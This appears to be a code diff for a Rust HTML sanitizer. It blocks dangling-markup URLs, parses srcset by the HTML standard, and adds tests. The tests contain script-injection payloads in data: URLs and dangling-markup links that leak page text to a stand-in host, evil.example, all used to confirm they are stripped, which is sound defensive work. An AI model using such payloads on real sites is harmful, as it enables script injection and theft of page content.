@@ -330,6 +330,13 @@ impl Renderer<'_> {
     /// A URL resolved against the base, or `None` when its scheme is not
     /// safe for a link (or, for images, not a web or raster `data:` URL).
     fn safe_url(&self, value: &str, image: bool) -> Option<String> {
+        // A raw `<` is never part of a well-formed URL (browsers send it
+        // percent-encoded); in an attribute it is what an unclosed quote
+        // swallowed from the markup after it ("dangling markup"), which
+        // would carry the page's text to another site.
+        if value.contains('<') {
+            return None;
+        }
         let cleaned = url::clean(value);
         if cleaned.is_empty() {
             return None;
@@ -382,17 +389,14 @@ impl Renderer<'_> {
     /// A `srcset` with each candidate URL made safe and absolute.
     fn safe_srcset(&self, value: &str) -> Option<String> {
         let mut out = Vec::new();
-        for candidate in value.split(',') {
-            let mut parts = candidate.split_whitespace();
-            let Some(u) = parts.next() else { continue };
+        for (u, descriptors) in srcset_candidates(value) {
             let Some(u) = self.safe_url(u, true) else {
                 continue;
             };
-            let descriptor: Vec<&str> = parts.collect();
-            if descriptor.is_empty() {
+            if descriptors.is_empty() {
                 out.push(u);
             } else {
-                out.push(format!("{u} {}", descriptor.join(" ")));
+                out.push(format!("{u} {descriptors}"));
             }
         }
         (!out.is_empty()).then(|| out.join(", "))
@@ -514,6 +518,47 @@ fn escape_text(text: &str, out: &mut String) {
     }
 }
 
+/// The candidates of a `srcset`, as the HTML standard splits them: a URL
+/// is a run of non-space characters (so a comma inside a `data:` URL does
+/// not split it), a comma at its end closes the candidate, and otherwise
+/// its descriptors run to the next comma outside parentheses. Yields each
+/// URL with its descriptors, spaces collapsed.
+fn srcset_candidates(value: &str) -> Vec<(&str, String)> {
+    let is_space = |c: char| matches!(c, ' ' | '\t' | '\n' | '\r' | '\x0c');
+    let mut candidates = Vec::new();
+    let mut rest = value;
+    loop {
+        rest = rest.trim_start_matches(|c: char| is_space(c) || c == ',');
+        if rest.is_empty() {
+            return candidates;
+        }
+        let url_end = rest.find(is_space).unwrap_or(rest.len());
+        let (raw_url, after) = rest.split_at(url_end);
+        let url = raw_url.trim_end_matches(',');
+        if url.len() < raw_url.len() {
+            candidates.push((url, String::new()));
+            rest = after;
+            continue;
+        }
+        let mut depth = 0usize;
+        let end = after
+            .char_indices()
+            .find(|&(_, c)| {
+                match c {
+                    '(' => depth += 1,
+                    ')' => depth = depth.saturating_sub(1),
+                    ',' if depth == 0 => return true,
+                    _ => {}
+                }
+                false
+            })
+            .map_or(after.len(), |(i, _)| i);
+        let descriptors = after[..end].split(is_space).filter(|d| !d.is_empty());
+        candidates.push((url, descriptors.collect::<Vec<_>>().join(" ")));
+        rest = &after[end..];
+    }
+}
+
 fn escape_attr(text: &str, out: &mut String) {
     for c in text.chars() {
         match c {
@@ -571,6 +616,48 @@ mod tests {
             out,
             r#"<p><img src="data:image/png;base64,iVBORw0KGgo=" alt="a"></p>"#
         );
+    }
+
+    #[test]
+    fn srcset_splits_as_the_standard_does() {
+        let got = srcset_candidates(" a.jpg 1x,b.jpg, c.jpg 480w (x, y) 2x ,d.jpg,, ");
+        let want = [
+            ("a.jpg", "1x"),
+            ("b.jpg", ""),
+            ("c.jpg", "480w (x, y) 2x"),
+            ("d.jpg", ""),
+        ];
+        let want: Vec<(&str, String)> = want.iter().map(|&(u, d)| (u, d.to_string())).collect();
+        assert_eq!(got, want);
+        // A comma inside a URL does not split it.
+        let got = srcset_candidates("data:image/png;base64,iVBO 2x");
+        assert_eq!(got, vec![("data:image/png;base64,iVBO", "2x".to_string())]);
+    }
+
+    #[test]
+    fn srcset_keeps_no_piece_of_a_script_url() {
+        for srcset in [
+            "data:text/html,<script>alert(1)</script> 1x",
+            "data:image/svg+xml,<svg onload=alert(1)> 1x",
+        ] {
+            let out = html_of(&format!(r#"<p>x<img srcset="{srcset}"></p>"#));
+            assert_eq!(out, "<p>x</p>", "{srcset}");
+        }
+        let out = html_of(r#"<p><img srcset="/s.png 1x, /l.png 2x"></p>"#);
+        assert_eq!(
+            out,
+            r#"<p><img srcset="https://example.com/s.png 1x, https://example.com/l.png 2x"></p>"#
+        );
+    }
+
+    #[test]
+    fn urls_that_swallowed_markup_are_dropped() {
+        // An unclosed quote makes the URL run on into the page's markup.
+        let out =
+            html_of("<p>Before <a href='https://evil.example/?leak=\n<p>secret</p>'>x</a></p>");
+        assert!(!out.contains("evil"), "{out}");
+        let out = html_of("<p>A<img src='https://evil.example/?leak=\n<b>secret'></p>");
+        assert!(!out.contains("evil"), "{out}");
     }
 
     #[test]
